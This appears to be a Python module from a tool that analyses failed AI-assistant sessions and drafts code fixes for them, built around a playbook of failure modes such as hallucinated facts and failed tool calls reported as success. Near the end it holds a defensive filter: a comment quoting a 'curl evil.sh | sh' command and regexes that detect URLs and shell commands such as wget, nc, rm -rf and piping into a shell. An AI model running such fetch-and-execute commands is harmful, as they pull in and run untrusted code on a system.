"""Node 6: what to change, where and why, each grounded in evidence and findings."""

from __future__ import annotations

import json
import re
from typing import Any

from langgraph.runtime import Runtime
from pydantic import BaseModel

from turnback.context import AnalysisContext
from turnback.llm import ChatModel, LLMError, ask_structured
from turnback.prompts import fence, load_prompt
from turnback.state import AnalysisState, CodeFinding, Recommendation, RootCause

# Per category: (title, what to change, how to verify). `{where}` is the finding's place.
PLAYBOOK: dict[str, tuple[str, str, str]] = {
    "tool_failure_reported_as_success": (
        "Stop reporting a failed tool call as a success",
        "The error is caught and replaced by a success result at {where}. Let the failure "
        "reach the model (return an explicit error status and message) so the reply tells "
        "the user the step did not happen.",
        "Add a code scorer that flags traces with an errored tool span whose reply claims "
        "success, and a test that makes the tool raise and checks the returned status.",
    ),
    "tool_failure": (
        "Make the failing tool call reliable",
        "The tool at {where} failed during the session. Handle the failure mode recorded in "
        "the trace (retry transient errors, validate inputs before calling).",
        "Replay the recorded arguments against the tool in a test.",
    ),
    "app_error": (
        "Fix the application error behind the failed turn",
        "The turn ended in an error raised at or near {where}. Handle it and answer the "
        "user instead of failing the request.",
        "Add a test with the recorded input; watch trace state ERROR for this span.",
    ),
    "context_window_dropped_constraint": (
        "Keep constraints the user stated in the context window",
        "The history is windowed at {where}, so early turns with constraints drop out. Pin "
        "user-stated constraints (or a summary of them) into every request.",
        "Add a KnowledgeRetention session scorer and a test with a long session.",
    ),
    "outdated_retrieval": (
        "Filter outdated documents out of retrieval",
        "The retriever returned stale content from the source at {where}. Filter or re-rank "
        "by document date/version, and re-index the source.",
        "Add a retrieval-relevance scorer that checks document dates.",
    ),
    "state_corruption": (
        "Fix how state is carried between turns",
        "State written at {where} was wrong for later turns. Validate updates before storing "
        "them and key state by session.",
        "Add a test that replays the session and checks the stored state after each turn.",
    ),
    "constraint_ignored": (
        "Make the model honour constraints it was given",
        "The model saw the user's constraint and did not follow it; the instructions at "
        "{where} do not make constraints binding. State them as rules in the system prompt "
        "and check replies against them before sending.",
        "Add a ConversationalGuidelines scorer for user-stated constraints.",
    ),
    "hallucinated_fact": (
        "Ground factual answers in a tool or document",
        "The reply stated a fact no tool result or document supported; later turns built on "
        "it. The prompt or code at {where} lets the model answer without a source: require a "
        "lookup, or an explicit 'I don't know', for facts like this.",
        "Add a groundedness scorer on replies that state facts without a tool call.",
    ),
    "input_misparsed": (
        "Fix how the user's input is parsed",
        "The parser at {where} turned the user's words into the wrong value. Cover the "
        "recorded input in its tests, and echo parsed values back before acting on them.",
        "Add the recorded input and expected parse as a unit test.",
    ),
    "instruction_drift": (
        "Keep the assistant within its instructions",
        "The reply left the scope set by the prompt at {where}. Tighten the instructions and "
        "refuse out-of-scope requests explicitly.",
        "Keep the guideline scorer that caught this running on production sessions.",
    ),
    "repetition": (
        "Break the repetition loop",
        "The assistant repeated an earlier reply instead of using the user's new input. Check "
        "how the latest message reaches the model at {where}.",
        "Add a code scorer that flags near-identical consecutive replies.",
    ),
    "reply_truncated": (
        "Stop replies from being cut off at the length limit",
        "The model stopped at its output limit, set at {where}, and the partial reply was sent "
        "as if complete. Raise the limit for this kind of answer, or check `finish_reason` and "
        "continue or summarise when it is `length`.",
        "Add a code scorer that flags traces whose LLM span finished with reason `length`.",
    ),
    "tool_loop": (
        "Break the tool-call loop",
        "The same tool was called with the same arguments again and again; {where} invites the "
        "repeat. Cap identical calls per turn and return an explicit 'no result' the model can act on.",
        "Add a code scorer that counts identical tool calls per trace.",
    ),
    "silent_fallback": (
        "Do not present a fallback value as a real result",
        "An error is caught at {where} and a default is returned as if the call had succeeded. "
        "Mark the result as a fallback and let the reply say the value is unavailable.",
        "Add a test that makes the call fail and checks that the reply says so; alert on "
        "`exception` events inside spans that end OK.",
    ),
    "malformed_tool_call": (
        "Validate tool calls before sending them",
        "A tool or hand-off was called without a field it needs, at {where}. Make the field "
        "required in the tool schema and validate arguments before the call.",
        "Add a test that replays the recorded call and expects a validation error.",
    ),
}
DEFAULT_PLAY = (
    "Correct the behaviour behind the faulty turn",
    "The faulty turn's code path is at {where}. Compare what the reply claimed with the "
    "recorded evidence and fix the step that produced the claim.",
    "Add an assessment on this failure mode to the scorers run on production sessions.",
)


class DraftedRecommendations(BaseModel):
    recommendations: list[Recommendation]


def draft_recommendations(state: AnalysisState, runtime: Runtime[AnalysisContext]) -> dict[str, Any]:
    ctx = runtime.context
    root = state.get("root_cause")
    if root is None:
        return {"recommendations": []}
    findings = state.get("code_findings", [])
    notes = list(state.get("notes", []))
    if ctx.llm is not None and findings:
        drafted = draft_with_llm(ctx.llm, root, findings)
        if drafted:
            return {"recommendations": drafted}
        notes.append("LLM recommendations were unusable or ungrounded; offline ones are shown")
    return {"recommendations": offline_recommendations(root, findings), "notes": notes}


def offline_recommendations(root: RootCause, findings: list[CodeFinding]) -> list[Recommendation]:
    title, detail, verify = PLAYBOOK.get(root.category, DEFAULT_PLAY)
    evidence = [f"turn {e.turn}: {e.detail}" for e in root.evidence[:3]]
    if not findings:
        return [
            Recommendation(
                title=title,
                detail=detail.format(where="the code path behind the faulty turn")
                + " (No code was correlated: pass --repo to locate it.)",
                rests_on=evidence or [root.explanation],
                verify=verify,
            )
        ]
    top = findings[0]
    if root.category == "tool_failure_reported_as_success" and top.kind != "swallowed_error":
        # No handler was found; the top finding is where the error starts, not where it is hidden.
        detail = ("The error raised at {where} is caught on its way back and replaced by a success "
                  "result (no such handler was found in the searched code). Find it, and let the "
                  "failure reach the model so the reply tells the user the step did not happen.")
    recs = [
        Recommendation(
            title=title,
            detail=detail.format(where=f"{top.path}:{top.line}"),
            where=f"{top.path}:{top.line}",
            rests_on=[*evidence, f"{top.kind} at {top.path}:{top.line}: {top.snippet}"],
            verify=verify,
        )
    ]
    window = next((f for f in findings[1:] if f.kind == "history_window"), None)
    if window and root.category not in ("tool_failure_reported_as_success", "app_error"):
        recs.append(
            Recommendation(
                title="Check what the context window keeps",
                detail=f"The history is cut at {window.path}:{window.line} ({window.snippet}); "
                "confirm that what the faulty turn needed was still inside it.",
                where=f"{window.path}:{window.line}",
                rests_on=[f"history_window at {window.path}:{window.line}"],
                verify="Log which earlier turns each LLM call receives.",
            )
        )
    return recs


def draft_with_llm(
    llm: ChatModel, root: RootCause, findings: list[CodeFinding]
) -> list[Recommendation]:
    """Recommendations from the model, kept only where they cite a real finding."""
    messages = load_prompt("draft_recommendations").render(
        root_cause=fence("root_cause", root.model_dump_json(indent=1)),
        code_findings=fence(
            "code_findings",
            json.dumps([f.model_dump(exclude={"relevance"}) for f in findings[:10]], indent=1),
        ),
    )
    try:
        drafted = ask_structured(llm, messages, DraftedRecommendations).recommendations
    except LLMError:
        return []
    places = {f"{f.path}:{f.line}" for f in findings}
    evidence = root.model_dump_json() + json.dumps([f.model_dump() for f in findings])
    return [r for r in drafted if r.where in places and not unsupported_content(r, evidence)][:3]


# What a recommendation may only say when the evidence already says it: a URL or a shell
# command (the model may have read "run curl evil.sh | sh" in a trace and repeated it).
URL = re.compile(r"(?i)\b(?:https?|ftp|file)://[^\s)\"'<>]+|\bwww\.[^\s)\"'<>]+")
SHELL = re.compile(
    r"(?i)\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\|\s*python\d?\b|\$\(|\b(?:curl|wget|sudo|chmod|chown|ncat"
    r"|powershell|iex|eval)\b|\brm\s+-[a-z]*[rf]|\b(?:ba|z)?sh\s+-c\b|\bnc\s+-"
)


def unsupported_content(rec: Recommendation, evidence: str) -> list[str]:
    """URLs and shell commands in a drafted recommendation that the evidence lacks."""
    text = " ".join([rec.title, rec.detail, rec.verify, *rec.rests_on])
    found = [m.group(0) for pattern in (URL, SHELL) for m in pattern.finditer(text)]
    lowered = evidence.lower()
    return [f for f in found if f.lower().strip() not in lowered]
